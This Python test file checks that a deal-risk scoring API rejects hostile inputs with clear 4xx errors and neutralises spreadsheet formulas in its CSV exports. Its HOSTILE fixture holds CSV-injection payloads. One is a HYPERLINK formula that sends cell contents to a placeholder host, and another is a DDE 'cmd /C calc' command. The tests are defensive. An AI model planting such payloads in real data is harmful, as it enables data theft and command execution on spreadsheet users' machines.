"""Hostile inputs, as an integration probing the API would send them: each answers a clear 4xx, never
a 5xx, and nothing of it is stored or leaks into a manager's spreadsheet."""

from __future__ import annotations

import copy
import csv
import http.client
import io
import json
import logging
import socket
import threading
import time
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
import uvicorn
from fastapi.testclient import TestClient

from serving.app import create_app
from tests.serving.conftest import World, make_settings

OUT_OF_RANGE = ["9999-12-31T00:00:00", "0001-01-01T00:00:00", "1899-12-31T23:59:59Z", "2200-01-02"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def live_url(world: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A real uvicorn server on 127.0.0.1 (a kept-alive HTTP/1.1 connection needs one)."""
    import shutil

    copy_db = tmp_path_factory.mktemp("live") / "store.db"
    shutil.copyfile(world.home / "dealrisk.db", copy_db)
    app = create_app(make_settings(world, database_url=f"sqlite:///{copy_db}"))
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", access_log=False))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 60
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    assert server.started, "uvicorn did not start"
    yield f"127.0.0.1:{port}"
    server.should_exit = True
    thread.join(timeout=10)


def _cases(world: World) -> list[tuple[str, str, dict[str, Any] | None]]:
    """(method, path, body) with an out-of-range time in every time field, in bodies and query strings."""
    deal_id = world.deal_in(world.pipeline_a)
    deal = world.inline_deal(deal_id)
    pipe = quote(world.pipeline_a)
    cases: list[tuple[str, str, dict[str, Any] | None]] = []
    for t in OUT_OF_RANGE:
        cases.append(("POST", "/v1/score", {"as_of": t, "deals": [deal]}))
        for field in ("created_at", "expected_close_date"):
            cases.append(("POST", "/v1/score", {"deals": [{**deal, field: t}]}))
        with_event = copy.deepcopy(deal)
        with_event["activities"].append({"type": "call", "occurred_at": t})
        cases.append(("POST", "/v1/score", {"deals": [with_event]}))
        cases.append(
            ("POST", "/v1/events", {"activities": [{"deal_id": deal_id, "type": "call", "occurred_at": t}]})
        )
        for path in (
            f"/v1/pipelines/{pipe}/at-risk?as_of={t}",
            f"/v1/pipelines/{pipe}/at-risk?close_before={t}",
            f"/v1/pipelines/{pipe}/forecast?as_of={t}",
            f"/v1/pipelines/{pipe}/health?until={t}",
            f"/v1/pipelines/{pipe}/health?since={t}",
            f"/v1/deals/{deal_id}/score?as_of={t}",
        ):
            cases.append(("GET", path, None))
    return cases


def test_out_of_range_times_answer_422_and_keep_the_connection(world: World, live_url: str) -> None:
    host, port = live_url.split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=60)
    headers = {**world.auth("admin"), "Content-Type": "application/json"}
    cases = _cases(world)
    assert len(cases) == 44
    conn.request("GET", "/healthz")
    conn.getresponse().read()
    first_socket = conn.sock
    for method, path, body in cases:
        conn.request(method, path, body=json.dumps(body) if body is not None else None, headers=headers)
        response = conn.getresponse()
        payload = json.loads(response.read())
        assert response.status == 422, (method, path, payload)
        assert "time out of range" in payload["detail"], payload
        assert payload["problems"], payload
        assert response.getheader("connection") != "close"
        # http.client reopens a closed connection silently: the same socket object proves it stayed up.
        assert conn.sock is first_socket, f"connection dropped after {method} {path}"
    conn.close()


def test_times_just_inside_the_bounds_score(world: World, client: TestClient) -> None:
    deal = world.inline_deal(world.deal_in(world.pipeline_a))
    response = client.post(
        "/v1/score", json={"as_of": "2199-12-31T00:00:00Z", "deals": [deal]}, headers=world.auth("admin")
    )
    assert response.status_code == 200, response.text
    assert response.json()["scores"][0]["as_of"].startswith("2199-12-31")


@pytest.mark.parametrize("amount", [2**64, 1e308, 1e15 * 1.001])
def test_huge_amounts_are_refused_with_422(world: World, client: TestClient, amount: float) -> None:
    deal = world.inline_deal(world.deal_in(world.pipeline_a))
    scored = client.post(
        "/v1/score", json={"deals": [{**deal, "amount": amount}]}, headers=world.auth("admin")
    )
    assert scored.status_code == 422, scored.text
    assert scored.json()["problems"][0]["loc"] == "deals[0].amount"
    fields = {k: v for k, v in deal.items() if k not in ("stage_changes", "activities", "field_changes")}
    stored = client.post(
        "/v1/deals",
        json={"deals": [{**fields, "deal_id": "HUGE", "amount": amount}]},
        headers=world.auth("admin"),
    )
    assert stored.status_code == 422, stored.text
    change = {
        "deal_id": deal["deal_id"],
        "field": "amount",
        "value": repr(amount),
        "changed_at": deal["created_at"],
    }
    event = client.post("/v1/events", json={"field_changes": [change]}, headers=world.auth("admin"))
    assert event.status_code == 422, event.text
    assert "too large" in event.json()["detail"]
    assert client.get("/v1/deals/HUGE", headers=world.auth("admin")).status_code == 404
    risk = client.get(
        f"/v1/pipelines/{quote(world.pipeline_a)}/at-risk",
        params={"min_amount": amount},
        headers=world.auth("admin"),
    )
    assert risk.status_code == 422


def test_the_largest_allowed_amount_scores_with_a_finite_expected_value(
    world: World, client: TestClient
) -> None:
    deal = world.inline_deal(world.deal_in(world.pipeline_a))
    response = client.post(
        "/v1/score", json={"deals": [{**deal, "amount": 1e15}]}, headers=world.auth("admin")
    )
    assert response.status_code == 200, response.text
    value = response.json()["scores"][0]["expected_value"]
    assert 0 < value <= 1e15


@pytest.mark.parametrize(
    "raw",
    [
        '{"deals": [{"amount": NaN}]}',
        '{"deals": [{"amount": Infinity}]}',
        '{"as_of": -Infinity, "deals": []}',
    ],
)
def test_nan_and_infinity_in_json_are_422(world: World, client: TestClient, raw: str) -> None:
    response = client.post(
        "/v1/score", content=raw, headers={**world.auth("admin"), "Content-Type": "application/json"}
    )
    assert response.status_code == 422, response.text


@pytest.mark.parametrize("field", ["deal_id", "pipeline", "owner", "team"])
@pytest.mark.parametrize("bad", ["D\x001", "D\x1b[31m", "a\x7fb", "x\ny"])
def test_control_characters_in_ids_and_names_are_422(
    world: World, client: TestClient, field: str, bad: str
) -> None:
    deal = world.inline_deal(world.deal_in(world.pipeline_a))
    fields = {k: v for k, v in deal.items() if k not in ("stage_changes", "activities", "field_changes")}
    response = client.post(
        "/v1/deals", json={"deals": [{**fields, "deal_id": "CTRL", field: bad}]}, headers=world.auth("admin")
    )
    assert response.status_code == 422, response.text
    assert response.json()["problems"][0]["loc"] == f"deals[0].{field}"
    assert client.get("/v1/deals/CTRL", headers=world.auth("admin")).status_code == 404


def test_control_characters_in_paths_queries_and_events_are_422(world: World, client: TestClient) -> None:
    admin = world.auth("admin")
    assert client.get("/v1/deals/D%001", headers=admin).status_code == 422
    assert client.get("/v1/deals/D%001/score", headers=admin).status_code == 422
    assert client.get("/v1/pipelines/P%00/at-risk", headers=admin).status_code == 422
    at_risk = client.get(
        f"/v1/pipelines/{quote(world.pipeline_a)}/at-risk", params={"owner": "a\x00"}, headers=admin
    )
    assert at_risk.status_code == 422
    deal_id = world.deal_in(world.pipeline_a)
    event = {"deal_id": deal_id, "type": "call", "occurred_at": "2025-01-01", "event_id": "e\x00"}
    assert client.post("/v1/events", json={"activities": [event]}, headers=admin).status_code == 422
    attrs = world.inline_deal(deal_id)
    attrs["attributes"] = {"segment": "smb\x00"}
    assert client.post("/v1/score", json={"deals": [attrs]}, headers=admin).status_code == 422


def test_naive_times_are_utc_and_aware_times_are_converted(world: World, client: TestClient) -> None:
    deal = world.inline_deal(world.deal_in(world.pipeline_a))
    results = []
    for as_of in ("2025-09-01T10:00:00", "2025-09-01T12:00:00+02:00", "2025-09-01T05:00:00-05:00"):
        response = client.post(
            "/v1/score", json={"as_of": as_of, "deals": [deal]}, headers=world.auth("admin")
        )
        assert response.status_code == 200, response.text
        results.append(response.json())
    assert {r["as_of"] for r in results} == {"2025-09-01T10:00:00Z"}
    assert len({r["scores"][0]["cold_risk"] for r in results}) == 1


def test_an_offset_whose_plus_arrived_as_a_space_is_read_as_the_offset(
    world: World, client: TestClient
) -> None:
    # "?as_of=2025-09-01T12:00:00+02:00" typed into a URL: the unencoded '+' reaches the server as a space
    deal_id = world.deal_in(world.pipeline_a)
    response = client.get(f"/v1/deals/{deal_id}/score", params={"as_of": "2025-09-01T12:00:00 02:00"},
                          headers=world.auth("admin"))
    assert response.status_code == 200, response.text
    assert response.json()["as_of"] == "2025-09-01T10:00:00Z"


def test_a_deal_with_no_history_scores(world: World, client: TestClient) -> None:
    deal = {
        "deal_id": "BARE",
        "pipeline": world.pipeline_a,
        "owner": "o",
        "amount": 1000,
        "created_at": "2025-01-01T00:00:00Z",
    }
    response = client.post(
        "/v1/score", json={"as_of": "2025-01-10", "deals": [deal]}, headers=world.auth("admin")
    )
    assert response.status_code == 200, response.text
    score = response.json()["scores"][0]
    assert (
        score["deal_id"] == "BARE" and 0 <= score["cold_risk"] <= 1 and 0 <= score["close_probability"] <= 1
    )


def test_a_deal_with_100000_events_is_refused_by_a_documented_limit(world: World, client: TestClient) -> None:
    deal = world.inline_deal(world.deal_in(world.pipeline_a))
    deal["activities"] = [{"type": "email", "occurred_at": deal["created_at"]}] * 100_000
    response = client.post("/v1/score", json={"deals": [deal]}, headers=world.auth("admin"))
    # Over the body limit (2 MiB here) it is 413 before parsing; under it, 422 naming the per-deal limit.
    assert response.status_code in (413, 422)
    assert "limit" in response.json()["detail"]


def test_more_events_than_the_per_deal_limit_is_422(world: World) -> None:
    deal = world.inline_deal(world.deal_in(world.pipeline_a))
    limit = len(deal["stage_changes"]) + len(deal["activities"]) + len(deal["field_changes"])
    with TestClient(
        create_app(make_settings(world, max_events_per_deal=limit - 1)), raise_server_exceptions=False
    ) as small:
        response = small.post("/v1/score", json={"deals": [deal]}, headers=world.auth("admin"))
    assert response.status_code == 422
    assert (
        response.json()["problems"]
        == [
            {
                "loc": "deals[0]",
                "msg": f"more than {limit - 1} events for one deal",
                "type": None,
                "input": None,
                "status": None,
            }
        ]
        or response.json()["problems"][0]["loc"] == "deals[0]"
    )


def test_duplicate_ids_in_a_batch_are_422_naming_the_repeat(world: World, client: TestClient) -> None:
    deal = world.inline_deal(world.deal_in(world.pipeline_a))
    response = client.post("/v1/score", json={"deals": [deal, deal]}, headers=world.auth("admin"))
    assert response.status_code == 422, response.text
    assert any(p["loc"].startswith("deals[1]") for p in response.json()["problems"])
    fields = {k: v for k, v in deal.items() if k not in ("stage_changes", "activities", "field_changes")}
    twice = {"deals": [{**fields, "deal_id": "TWICE"}, {**fields, "deal_id": "TWICE", "owner": "other"}]}
    stored = client.post("/v1/deals", json=twice, headers=world.auth("admin"))
    assert stored.status_code == 422
    assert client.get("/v1/deals/TWICE", headers=world.auth("admin")).status_code == 404


def test_mixed_scope_batches(world: World, client: TestClient) -> None:
    mine = world.inline_deal(world.deal_in(world.pipeline_a))
    other = world.inline_deal(world.deal_in(world.pipeline_b))
    key = world.auth("integration_a")
    scored = client.post("/v1/score", json={"deals": [other, mine]}, headers=key)
    assert scored.status_code == 200, scored.text
    body = scored.json()
    assert [s["deal_id"] for s in body["scores"]] == [mine["deal_id"]]
    assert body["errors"] == [
        {"index": 0, "deal_id": other["deal_id"], "status": 404, "detail": "deal not found"}
    ]
    strip = ("stage_changes", "activities", "field_changes")
    deals = [
        {k: v for k, v in d.items() if k not in strip} | {"deal_id": f"MIX-{i}"}
        for i, d in enumerate([mine, other])
    ]
    written = client.post("/v1/deals", json={"deals": deals}, headers=key)
    assert written.status_code == 422
    assert client.get("/v1/deals/MIX-0", headers=world.auth("admin")).status_code == 404  # all or nothing


HOSTILE = {
    "owner": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "team": "+cmd|' /C calc'!A0",
    "deal_id": "@SUM(1+1)*cmd",
    "pipeline": "-2+3+cmd",
    "stage": "=1+1",
    "account": "\tTAB",
}


def test_formulas_in_every_text_cell_of_the_at_risk_csv_are_neutralised(
    world: World, own_settings: Any
) -> None:
    import pandas as pd

    from features.validation import validate_and_coerce
    from serving.store import Store

    # One deal arrives by file import (a CRM export: every text column, a stage of its own), one through
    # the API into the same pipeline; both reach the manager's CSV.
    imported = validate_and_coerce(
        pd.DataFrame(
            [
                {
                    "deal_id": HOSTILE["deal_id"],
                    "pipeline": HOSTILE["pipeline"],
                    "owner": HOSTILE["owner"],
                    "team": HOSTILE["team"],
                    "account": HOSTILE["account"],
                    "amount": 5000,
                    "created_at": "2025-06-01T00:00:00Z",
                }
            ]
        ),
        pd.DataFrame(
            [{"deal_id": HOSTILE["deal_id"], "stage": HOSTILE["stage"], "changed_at": "2025-06-02"}]
        ),
        pd.DataFrame(columns=["deal_id", "type", "occurred_at"]),
    )
    store = Store(own_settings.database_url)
    store.import_history(imported)
    store.close()
    admin = world.auth("admin")
    with TestClient(create_app(own_settings), raise_server_exceptions=False) as own_client:
        posted = {
            "deal_id": "-API",
            "pipeline": HOSTILE["pipeline"],
            "owner": "@owner",
            "team": "=team",
            "amount": 7000,
            "created_at": "2025-06-03T00:00:00Z",
        }
        written = own_client.post("/v1/deals", json={"deals": [posted]}, headers=admin)
        assert written.status_code == 200, written.text
        response = own_client.get(
            f"/v1/pipelines/{quote(HOSTILE['pipeline'])}/at-risk",
            params={"as_of": "2025-07-01"},
            headers={**admin, "Accept": "text/csv"},
        )
    assert response.status_code == 200, response.text
    rows = {r["deal_id"]: r for r in csv.DictReader(io.StringIO(response.text))}
    assert set(rows) == {"'" + HOSTILE["deal_id"], "'-API"}
    row = rows["'" + HOSTILE["deal_id"]]
    for column in ("owner", "team", "deal_id", "pipeline", "stage"):
        assert row[column] == "'" + HOSTILE[column], column
    assert (rows["'-API"]["owner"], rows["'-API"]["team"]) == ("'@owner", "'=team")
    for r in rows.values():
        for column, cell in r.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    assert float(row["amount"]) == 5000.0  # numbers stay numbers


def test_spreadsheet_safe_frame_guards_batch_score_csv(tmp_path: Any) -> None:
    import pandas as pd

    from training.score import write_scores

    frame = pd.DataFrame(
        {
            "deal_id": pd.array(["=1+1", "ok", None], dtype="string"),
            "reason_1": ["@x", "-y", "plain"],
            "amount": [-5.0, 2.0, 3.0],
        }
    )
    path = tmp_path / "scores.csv"
    write_scores(frame, str(path))
    back = pd.read_csv(path)
    assert list(back["deal_id"].fillna("")) == ["'=1+1", "ok", ""]
    assert list(back["reason_1"]) == ["'@x", "'-y", "plain"]
    assert list(back["amount"]) == [-5.0, 2.0, 3.0]


@pytest.mark.parametrize("model_uri", ["models:/deal-risk@nosuchalias", "{home}/no-such-bundle"])
def test_readyz_names_the_problem_without_paths(world: World, model_uri: str) -> None:
    settings = make_settings(world, model_uri=model_uri.format(home=world.home))
    with TestClient(create_app(settings), raise_server_exceptions=False) as bad:
        ready = bad.get("/readyz")
        scored = bad.get(f"/v1/deals/{world.deal_in(world.pipeline_a)}/score", headers=world.auth("admin"))
    assert ready.status_code == 503
    text = ready.text + scored.text
    assert "no model loaded" in ready.json()["reasons"][0]
    assert scored.status_code == 503
    assert str(world.home) not in text and "/tmp" not in text and "sqlite:" not in text


def test_a_key_in_the_query_string_is_refused_and_never_logged(
    world: World, client: TestClient, caplog: pytest.LogCaptureFixture
) -> None:
    secret = world.keys["admin"]
    with caplog.at_level(logging.DEBUG):
        refused = client.get(f"/v1/pipelines?api_key={secret}")
        also = client.get(f"/v1/pipelines?access_token={secret}", headers=world.auth("admin"))
        fine = client.get(
            f"/v1/pipelines/{quote(world.pipeline_a)}/at-risk?as_of=2025-07-01", headers=world.auth("admin")
        )
    assert refused.status_code == 401 and also.status_code == 401
    assert "Authorization" in refused.json()["detail"]
    assert fine.status_code == 200
    # The test client's own httpx logger prints the URL it sent; the server's loggers must not.
    logged = "\n".join(r.getMessage() for r in caplog.records if not r.name.startswith(("httpx", "httpcore")))
    assert secret not in logged
    assert "as_of=" not in logged  # the access log records paths, never query strings
    assert '"status": 401' in logged


def test_metrics_need_a_key_unless_public_and_docs_are_public(world: World, client: TestClient) -> None:
    assert client.get("/metrics").status_code == 401
    assert client.get("/metrics", headers=world.auth("integration")).status_code == 200
    assert client.get("/metrics", headers=world.auth("revoked")).status_code == 401
    with TestClient(create_app(make_settings(world, public_metrics=True))) as public:
        assert public.get("/metrics").status_code == 200
    assert client.get("/docs").status_code == 200
    assert client.get("/openapi.json").status_code == 200


@pytest.mark.parametrize("with_history", [False, True])
def test_a_pipeline_never_seen_in_training_scores(
    world: World, client: TestClient, with_history: bool
) -> None:
    deal: dict[str, Any] = {
        "deal_id": "NEW-PIPE",
        "pipeline": "Never Seen",
        "owner": "o",
        "amount": 0.0,
        "created_at": "2000-01-01T00:00:00Z",
    }
    if with_history:
        deal["stage_changes"] = [{"stage": "Brand New", "changed_at": "2000-01-02T00:00:00Z"}]
    response = client.post(
        "/v1/score", json={"as_of": "2000-02-01", "deals": [deal]}, headers=world.auth("admin")
    )
    assert response.status_code == 200, response.text
    score = response.json()["scores"][0]
    assert 0 <= score["cold_risk"] <= 1 and 0 <= score["close_probability"] <= 1


def test_a_body_that_is_not_json_says_what_is_wrong_and_where(world: World, client: TestClient) -> None:
    admin = world.auth("admin")
    as_json = {**admin, "Content-Type": "application/json"}
    # cut short: where the JSON breaks and why (it was loc "[11]", msg "JSON decode error")
    broken = client.post("/v1/deals", content=b'{"deals": [', headers=as_json)
    assert broken.status_code == 422
    assert broken.json()["problems"][0]["loc"] == "body"
    assert broken.json()["detail"] == "body: not valid JSON at character 11: Expecting value"
    # JSON sent as another content type is not read as JSON: say which header to send
    as_text = {**admin, "Content-Type": "text/plain"}
    plain = client.post("/v1/deals", content=b'{"deals": []}', headers=as_text)
    assert plain.status_code == 422
    assert "Content-Type: application/json" in plain.json()["detail"], plain.text
    # not UTF-8: the 400 docs/api.md describes (it was FastAPI's "There was an error parsing the body")
    latin_1 = '{"deals": [{"owner": "Zoë"}]}'.encode("latin-1")
    latin = client.post("/v1/deals", content=latin_1, headers=as_json)
    assert latin.status_code == 400
    assert latin.json()["detail"] == "the body could not be read as JSON text: send it encoded as UTF-8"


@pytest.mark.parametrize("route", ["/v1/score", "/v1/deals"])
def test_true_or_false_as_an_amount_is_422(world: World, client: TestClient, route: str) -> None:
    # JSON true was read as an amount of 1.0 (false as 0.0): a CRM's mapping mistake scored silently
    deal = {"deal_id": "BOOL", "pipeline": world.pipeline_a, "owner": "o", "amount": True,
            "created_at": "2025-01-01T00:00:00Z"}
    response = client.post(route, json={"deals": [deal]}, headers=world.auth("admin"))
    assert response.status_code == 422, response.text
    problem = response.json()["problems"][0]
    assert problem["loc"] == "deals[0].amount" and "true or false" in problem["msg"]
